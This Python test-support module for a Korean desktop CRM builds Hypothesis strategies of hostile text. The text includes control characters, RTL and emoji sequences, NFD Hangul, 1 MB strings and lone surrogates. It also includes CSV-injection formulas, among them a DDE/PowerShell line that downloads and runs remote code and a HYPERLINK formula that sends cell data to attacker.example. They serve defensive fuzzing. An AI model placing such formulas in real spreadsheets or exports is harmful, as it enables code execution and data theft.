"""What hostile input looks like, as Hypothesis strategies, and what a clean refusal is.

Text: anything Unicode allows (Hypothesis' own `text()`), formulas a spreadsheet would run,
control characters (NUL, ESC, zero-width space, BOM, bidi overrides), emoji sequences,
right-to-left scripts, Hangul decomposed as macOS types it (NFD), and 1 MB of any of these.
Lone surrogates cannot be written as UTF-8 at all; `surrogate_text` makes them for the tests
that check they are refused.
"""
from __future__ import annotations

import hashlib
import sqlite3
import string
import unicodedata
from pathlib import Path

from hypothesis import settings
from hypothesis import strategies as st

from pcrm_desktop.domain.errors import DomainError
from pcrm_desktop.domain.messages import FIELD_LABELS, MESSAGES, korean_message

MB = 1 << 20
# OWASP "CSV injection": a cell starting with one of these is run by a spreadsheet.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    "=cmd|' /C calc'!A0", "=cmd|'/c powershell IEX(wget 0r.pe/p)'!A0",
    '=HYPERLINK("http://attacker.example/?"&A1,"클릭")', "=1+1", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")", "-", "+", "=", "@",
)
CONTROL = "".join(map(chr, range(0x20))) + "\x7f\x85\u00a0\u200b\u200c\u200d\u200e\u200f" \
    "\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u3000\ufeff\ufffe\uffff"
EMOJI = ("😀", "👨‍👩‍👧‍👦", "🇰🇷", "🧑🏽‍💻", "❤️", "\U0001f9d1", "🏳️‍🌈", "🫠")
RTL = ("שלום עולם", "مرحبا بالعالم", "\u202eabc\u202c", "עברית 123 English", "ال٣٤٥", "\u202b홍길동\u202c")
HANGUL = st.text(alphabet=st.characters(min_codepoint=0xAC00, max_codepoint=0xD7A3), min_size=1,
                 max_size=12)
NFD_HANGUL = HANGUL.map(lambda s: unicodedata.normalize("NFD", s))

piece = st.one_of(
    st.text(max_size=20),  # any code point but surrogates, Hypothesis' own mix
    st.sampled_from(FORMULAS),
    st.text(alphabet=CONTROL, min_size=1, max_size=5),
    st.sampled_from(EMOJI),
    st.sampled_from(RTL),
    HANGUL,
    NFD_HANGUL,
    st.text(alphabet=string.digits + "-./ :년월일", max_size=16),
)
short_text = st.lists(piece, max_size=4).map("".join)


def _huge(seed: str, size: int) -> str:
    seed = seed or "가"
    return (seed * (size // len(seed) + 1))[:size]


# 1 MB of one repeated piece (a generated 1 MB string would take Hypothesis far too long)
huge_text = st.builds(_huge, st.lists(piece, min_size=1, max_size=3).map("".join),
                      st.sampled_from([MB, MB + 1, 70_000]))
def examples(n: int) -> int:
    """n examples under the `ci` profile (40 by default), as many more under `deep`."""
    return max(1, n * settings.default.max_examples // 40)


# 1 MB examples cost up to a second each in some parsers: the tests draw them apart, fewer
HUGE_EXAMPLES = examples(6)
formula_text = st.builds(lambda f, rest: f + rest, st.sampled_from(FORMULAS), short_text)
surrogate_text = st.builds(lambda a, s, b: a + s + b, short_text,
                           st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), short_text)


def nfc_trimmed(text: str) -> str:
    """What domain.text.nfc promises: NFC, trimmed."""
    return unicodedata.normalize("NFC", text).strip()


def assert_clear(error: DomainError) -> str:
    """A refusal the user can act on: a Korean text exists for its code, and every
    placeholder of that text is filled (a missing field label would show "{label}")."""
    assert error.code in MESSAGES, f"no Korean message for the code {error.code!r}: {error!r}"
    params = dict(error.params)
    if error.field in FIELD_LABELS:
        params.setdefault("label", FIELD_LABELS[error.field])
    try:
        MESSAGES[error.code].format(**params)
    except (KeyError, IndexError) as missing:
        raise AssertionError(f"message {error.code!r} lacks {missing} ({error!r})") from None
    text = korean_message(error)
    assert text and text != error.code
    return text


def fingerprint(db: Path) -> str:
    """A digest of every row of every table, read as another program would (read-only)."""
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        digest = hashlib.sha256()
        names = [r[0] for r in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
            " ORDER BY name")]
        for name in names:
            digest.update(name.encode())
            for row in sorted(repr(r) for r in conn.execute(f'SELECT * FROM "{name}"')):
                digest.update(row.encode("utf-8", "surrogatepass"))
        return digest.hexdigest()
    finally:
        conn.close()


def count(db: Path, table: str) -> int:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return conn.execute(f'SELECT count(*) FROM "{table}"').fetchone()[0]
    finally:
        conn.close()
